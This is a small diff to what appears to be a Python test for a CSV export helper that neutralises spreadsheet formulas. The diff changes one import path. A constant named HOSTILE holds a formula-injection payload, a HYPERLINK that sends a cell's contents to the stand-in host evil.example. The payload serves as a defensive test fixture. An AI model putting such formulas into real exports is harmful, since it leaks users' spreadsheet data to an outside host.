@@ -6,7 +6,7 @@ from __future__ import annotations
 import csv
 import io
 
-from verify.export import neutralise_formula
+from verify.export.tables import neutralise_formula
 
 HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for sources")'
 
